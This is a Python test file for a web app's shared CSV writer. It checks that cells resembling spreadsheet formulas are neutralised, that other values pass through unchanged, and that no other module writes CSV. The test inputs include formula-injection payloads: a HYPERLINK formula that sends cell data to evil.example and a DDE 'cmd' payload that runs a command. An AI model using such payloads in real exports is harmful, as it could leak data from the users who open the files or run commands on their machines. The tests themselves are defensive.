"""The one CSV writer: formulas are neutralised, and nothing else in the app writes CSV."""

import ast
import csv
import io
from datetime import date
from decimal import Decimal
from pathlib import Path

import pytest

from centre.csv_export import csv_response, csv_write, neutralise

ROOT = Path(__file__).resolve().parents[2]
APP_PACKAGES = ("centre", "casework", "activities", "coproduction")


@pytest.mark.parametrize(
    "typed",
    [
        '=HYPERLINK("http://evil.example/?d="&A1,"Click me")',
        "+1+1",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1,2)",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_a_formula_is_written_as_plain_text(typed):
    assert neutralise(typed) == "'" + typed


@pytest.mark.parametrize(
    "value", ["Soup on Wednesdays", "Amira مريم 👩🏽‍⚕️", "", "1-2 people", 3, -4, Decimal("-1.50")]
)
def test_anything_else_is_left_as_it_is(value):
    assert neutralise(value) == value


def test_dates_and_none():
    assert neutralise(date(2026, 12, 4)) == date(2026, 12, 4)
    assert neutralise(None) == ""


def test_the_writer_neutralises_every_cell_and_reads_back():
    out = io.StringIO()
    csv_write(out, ["Name", "=Total"], [["=1+1", 5], ['Say "hi",\nthen go', None]])
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [
        ["Name", "'=Total"],
        ["'=1+1", "5"],
        ['Say "hi",\nthen go', ""],
    ]


def test_a_download_is_utf8_with_a_byte_order_mark():
    response = csv_response("ideas.csv", ["Idea"], [["مريم =1"], ["@home"]])
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="ideas.csv"'
    text = response.content.decode("utf-8")
    assert text.startswith("\ufeff")
    assert list(csv.reader(io.StringIO(text.removeprefix("\ufeff")))) == [
        ["Idea"],
        ["مريم =1"],
        ["'@home"],
    ]


def _modules():
    for package in APP_PACKAGES:
        for path in (ROOT / package).rglob("*.py"):
            if "migrations" not in path.parts:
                yield path


def test_no_module_but_the_shared_writer_uses_the_csv_module():
    """A CSV written any other way could forget to neutralise formulas."""
    offenders, paths = [], list(_modules())
    assert len(paths) > 50, "the app's modules were not found"
    for path in paths:
        tree = ast.parse(path.read_text(encoding="utf-8"))
        for node in ast.walk(tree):
            names = (
                [alias.name for alias in node.names] if isinstance(node, ast.Import) else []
            ) + ([node.module] if isinstance(node, ast.ImportFrom) and node.module else [])
            if "csv" in names and path != ROOT / "centre" / "csv_export.py":
                offenders.append(str(path.relative_to(ROOT)))
    assert not offenders, f"Write CSV with centre.csv_export (csv_response, csv_write): {offenders}"
